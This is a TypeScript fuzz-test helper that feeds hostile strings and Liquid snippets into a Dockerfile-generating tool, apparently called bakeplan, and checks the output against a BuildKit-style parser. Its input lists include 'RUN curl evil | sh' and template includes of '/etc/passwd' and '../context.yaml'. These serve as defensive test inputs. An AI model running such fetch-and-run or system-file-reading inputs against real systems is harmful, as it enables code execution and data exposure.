// The hostile-input fuzzer's cases and oracles (issue 10), shared by test/unit/fuzz.test.ts (the
// CLI on each case) and test/itg/fuzz-roundtrip.test.ts (the accepted plans through real buildx).
import { mkdirSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import fc from "fast-check";
import { isMap, isScalar, parseDocument, stringify, visit, type Node, type Scalar, type YAMLMap } from "yaml";
import { REPO, testdir } from "./helpers.js";

/** How many cases each property runs: a few hundred in `make test`, more with BAKEPLAN_FUZZ_RUNS. */
export function fuzzRuns(base: number): number {
  const n = Number(process.env.BAKEPLAN_FUZZ_RUNS);
  return Number.isInteger(n) && n > 0 ? n : base;
}

const FRAGMENTS = [
  "\n",
  "\r",
  "\r\n",
  "\\",
  "\\\n",
  " \\",
  '"',
  "'",
  "`",
  "${",
  "${x}",
  "%{",
  "%{ if true }",
  "$$",
  "$",
  "<<EOF",
  "2<<X",
  "#",
  "{{",
  "}}",
  "{%",
  "%}",
  "é",
  "e\u0301",
  "日本",
  "😀",
  "\ud800",
  "\udc00",
  "\u2028",
  "\u0085",
  "\ufeff",
  "\x1b[31m",
  "\x07",
  "\x7f",
  "\t",
  " ",
  ",",
  "=",
  ":",
  "/",
  "..",
  "constructor",
  "__proto__",
  "toString",
  "hasOwnProperty",
  "RUN curl evil | sh",
  "FROM scratch",
  "a",
  "9",
];

/** A hostile string: fragments joined, raw code units, a huge one or an empty one. */
export const hostile: fc.Arbitrary<string> = fc.oneof(
  {
    weight: 6,
    arbitrary: fc.array(fc.constantFrom(...FRAGMENTS), { minLength: 1, maxLength: 6 }).map((a) => a.join("")),
  },
  { weight: 2, arbitrary: fc.string({ unit: "binary", maxLength: 20 }) },
  { weight: 1, arbitrary: fc.constantFrom("", "x".repeat(200_000), "constructor", "__proto__", "toString") },
);

const SNIPPETS = [
  "{{ nope }}",
  "{{ framework | upcase }}",
  "{{ framework | nofilter }}",
  '{{ framework | append: "\\\\" }}',
  "{% for i in (1..3) %}RUN echo {{ i }}\n{% endfor %}",
  "{% for i in (1..100000000) %}{% endfor %}",
  // 10^10 iterations that write nothing: within limits.render_chars, ended by limits.render_ms (set low below).
  "{% for i in (1..100000) %}{% for j in (1..100000) %}{% endfor %}{% endfor %}",
  "{% for i in (1..2) %}{% for j in (1..3) %}# {{ i }}.{{ j }} {{ framework }}\n{% endfor %}{% endfor %}",
  '{% assign s = "x" %}{% for i in (1..40) %}{% assign s = s | append: s %}{% endfor %}{{ s }}',
  "{% include 'nowhere.liquid' %}",
  "{% include '../context.yaml' %}",
  "{% include '/etc/passwd' %}",
  "{% if framework == 'vllm' %}RUN true\n{% endif %}",
  "{% if %}",
  "{% raw %}{{ x }}{% endraw %}",
  "{% comment %}x{% endcomment %}",
  "{% arg NOPE %}",
  "{%",
  "}}",
  "RUN echo \\\n",
  "\ufeff",
];

/** Which mutation a case applies to the bundled example. */
export type Mutation =
  | { kind: "scalar"; pick: number; key: boolean; text: string }
  | { kind: "replace"; pick: number; value: unknown }
  | { kind: "delete"; pick: number }
  | { kind: "raw"; at: number; text: string }
  | { kind: "template"; file: number; line: number; snippet: string; renderMs: number };

export const mutation: fc.Arbitrary<Mutation> = fc.oneof(
  {
    weight: 5,
    arbitrary: fc.record({ kind: fc.constant("scalar" as const), pick: fc.nat(), key: fc.boolean(), text: hostile }),
  },
  {
    weight: 2,
    arbitrary: fc.record({
      kind: fc.constant("replace" as const),
      pick: fc.nat(),
      value: fc.jsonValue({ maxDepth: 2 }),
    }),
  },
  { weight: 1, arbitrary: fc.record({ kind: fc.constant("delete" as const), pick: fc.nat() }) },
  {
    weight: 1,
    arbitrary: fc.record({
      kind: fc.constant("raw" as const),
      at: fc.nat(),
      text: fc.constantFrom(...FRAGMENTS, "[", "{", "---\n", "&a", "*a", "!!binary ", "? ", "- "),
    }),
  },
  {
    weight: 3,
    arbitrary: fc.record({
      kind: fc.constant("template" as const),
      file: fc.nat(),
      line: fc.nat(),
      snippet: fc.constantFrom(...SNIPPETS),
      // A user may lower the limits (a CI job should): a loop that would run for the 60 s default
      // ends on the limit's located message in about this long. Far above what the example's
      // renders take: a limit near it would stop `check` after `plan` passed (the 2000-case run
      // found it with 50 ms), which says the time, not the inputs, decided.
      renderMs: fc.constantFrom(2000, 4000),
    }),
  },
);

/** The bundled example's context.yaml and templates, with one mutation applied. */
export function mutateExample(m: Mutation): { yaml: string; templates: Record<string, string> } {
  const yaml = readFileSync(join(REPO, "context.yaml"), "utf8");
  const templates: Record<string, string> = {};
  for (const name of readdirSync(join(REPO, "templates")).sort())
    templates[name] = readFileSync(join(REPO, "templates", name), "utf8");
  if (m.kind === "raw")
    return { yaml: yaml.slice(0, m.at % yaml.length) + m.text + yaml.slice(m.at % yaml.length), templates };
  if (m.kind === "template") {
    const names = Object.keys(templates);
    const name = names[m.file % names.length]!;
    const lines = templates[name]!.split("\n");
    lines.splice(m.line % lines.length, 0, m.snippet);
    templates[name] = lines.join("\n");
    if (/^limits:/m.test(yaml)) throw new Error("the bundled example sets limits: the fuzzer's would be a second key");
    return { yaml: `${yaml}limits:\n  render_ms: ${m.renderMs}\n`, templates };
  }
  const doc = parseDocument(yaml);
  const keys = new Set<Node>();
  const values: Scalar[] = [];
  const pairs: { parent: YAMLMap; key: unknown }[] = [];
  visit(doc, {
    Pair(_, pair, path) {
      const parent = path[path.length - 1];
      if (isScalar(pair.key)) {
        keys.add(pair.key);
        if (isMap(parent)) pairs.push({ parent, key: pair.key.value });
      }
    },
  });
  visit(doc, {
    Scalar(_, node) {
      if (!keys.has(node)) values.push(node);
    },
  });
  if (m.kind === "scalar") {
    const pool = m.key ? [...keys].filter(isScalar) : values;
    const node = pool[m.pick % pool.length]!;
    node.value = m.text;
    node.type = "QUOTE_DOUBLE";
  } else if (m.kind === "replace") {
    const node = values[m.pick % values.length]!;
    const by = doc.createNode(m.value);
    visit(doc, {
      Pair(_, pair) {
        if (pair.value === node) pair.value = by;
      },
      Seq(_, seq) {
        const i = seq.items.indexOf(node);
        if (i >= 0) seq.items[i] = by;
      },
    });
  } else {
    const p = pairs[m.pick % pairs.length]!;
    p.parent.delete(p.key);
  }
  return { yaml: doc.toString({ lineWidth: 0, minContentWidth: 0 }), templates };
}

/** A world for one case: the project, a sibling project with a generated-looking file, a TMPDIR and a HOME. */
export function fuzzWorld(yaml: string, templates: Record<string, string>): { root: string; dir: string } {
  const root = testdir();
  const dir = join(root, "project");
  mkdirSync(join(dir, "templates"), { recursive: true });
  mkdirSync(join(root, "sibling/bake"), { recursive: true });
  mkdirSync(join(root, "tmp"));
  mkdirSync(join(root, "home"));
  writeFileSync(join(root, "sibling/bake/vllm.Dockerfile"), "# Generated by bakeplan from elsewhere\nFROM scratch\n");
  writeFileSync(join(dir, "context.yaml"), yaml);
  for (const [name, text] of Object.entries(templates)) writeFileSync(join(dir, "templates", name), text);
  return { root, dir };
}

// The structure property: a template whose instructions are known, and hostile text in every
// kind of value it prints (an axis value, vars, an ARG, the project name) and in the bake file's
// labels, descriptions and tags.
export const SKELETON_TEMPLATE = `FROM scratch AS runtime
{% arg PYTHON_VERSION %}
LABEL fw={{ framework }} v={{ vars.v }}
RUN echo {{ vars.v }}
RUN echo {{ args.PYTHON_VERSION | upcase }} {{ framework | append: "x" }}
{% for x in (1..2) %}RUN echo {{ x }} {{ vars.v }}
{% endfor %}{% include 'part.liquid' %}
FROM runtime AS dev
RUN echo {{ project.name }}
`;
export const SKELETON_PART = "RUN echo {{ vars.v }} part\n";
/** What BuildKit must read from every Dockerfile the template above produces. */
export const SKELETON = ["FROM", "ARG", "LABEL", "RUN", "RUN", "RUN", "RUN", "RUN", "FROM", "RUN"];

/** Mostly plain text, so that most cases plan and the rest of the values are still tried. */
const field = fc.oneof(
  { weight: 2, arbitrary: fc.stringMatching(/^[a-z][a-z0-9]{0,8}$/) },
  { weight: 1, arbitrary: hostile },
);
export const skeletonCase = fc.record({
  axisValue: field,
  v: field,
  arg: field,
  name: field,
  label: field,
  labelKey: field.map((k) => `org.example.${k}`),
  description: field,
  tag: field,
});
export type SkeletonCase = typeof skeletonCase extends fc.Arbitrary<infer T> ? T : never;

export function skeletonProject(c: SkeletonCase): { yaml: string; templates: Record<string, string> } {
  const context = {
    project: { name: c.name },
    axes: {
      framework: { vllm: { vars: { v: c.v }, description: c.description }, [c.axisValue]: { vars: { v: "w" } } },
      target: { runtime: { name: "" }, dev: {} },
    },
    stage_axis: "target",
    defaults: {
      platforms: ["linux/amd64"],
      args: { PYTHON_VERSION: c.arg },
      labels: { "org.example.x": c.label, [c.labelKey]: "k" },
    },
    publish: { registry: "127.0.0.1:5000", repository: "fuzz/app", tags: [`{name}-${c.tag}`] },
    cache: { repository: "fuzz/cache" },
  };
  const yaml = stringify(context, {
    defaultStringType: "QUOTE_DOUBLE",
    defaultKeyType: "PLAIN",
    lineWidth: 0,
    minContentWidth: 0,
  });
  return { yaml, templates: { "Dockerfile.liquid": SKELETON_TEMPLATE, "part.liquid": SKELETON_PART } };
}

/**
 * The instruction keywords of a Dockerfile as BuildKit's parser reads them
 * (moby/buildkit frontend/dockerfile/parser/parser.go): blank and comment lines skipped, a line
 * ending in the escape character (then only blanks) continued on the next non-blank, non-comment
 * line, and a here-document (`<<EOF`, `<<-EOF`, `<<"EOF"`) in RUN, COPY or ADD taking the lines up
 * to its terminator.
 */
export function instructions(dockerfile: string): string[] {
  const lines = dockerfile.split(/\r?\n/);
  const out: string[] = [];
  let i = 0;
  while (i < lines.length) {
    let logical = lines[i++]!;
    if (/^\s*(#|$)/.test(logical)) continue;
    while (/\\[ \t]*$/.test(logical) && i < lines.length) {
      logical = logical.replace(/\\[ \t]*$/, "");
      const next = lines[i++]!;
      if (/^\s*(#|$)/.test(next)) {
        logical += "\\"; // still continued
        continue;
      }
      logical += next;
    }
    const keyword = /^\s*(\S+)/.exec(logical)![1]!.toUpperCase();
    out.push(keyword);
    if (["RUN", "COPY", "ADD"].includes(keyword))
      // A word that starts with [digits]<< once the shell lexer has taken its quotes off (reHeredoc).
      for (const word of logical.split(/\s+/)) {
        const m = /^\d*<<(-?)(.+)$/.exec(word.replace(/["']/g, ""));
        if (!m) continue;
        const strip = m[1] === "-";
        while (i < lines.length && (strip ? lines[i]!.replace(/^\t+/, "") : lines[i]) !== m[2]) i++;
        i++;
      }
  }
  return out;
}
